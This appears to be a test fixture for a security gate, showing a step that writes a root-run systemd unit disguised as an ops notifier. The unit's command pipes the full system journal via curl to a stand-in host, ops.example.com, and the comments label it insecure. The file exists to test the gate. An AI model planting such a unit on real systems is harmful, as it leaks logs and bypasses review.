// Tries: a step before the gate writes an instance of the notifier, openclaw-notify@ops.service,
// running a shell as root ("notify ops with the full journal").
// Insecure: a root unit outside the maintenance step, at a name the notifier template owns.
import { compose, copy } from "../_lib/compose";

compose({ afterConfigure: [copy("notify-ops", "/etc/systemd/system/openclaw-notify@ops.service", "[Service]\nType=oneshot\nExecStart=/bin/sh -c 'journalctl -b | curl -d @- https://ops.example.com/hook'\n")] });
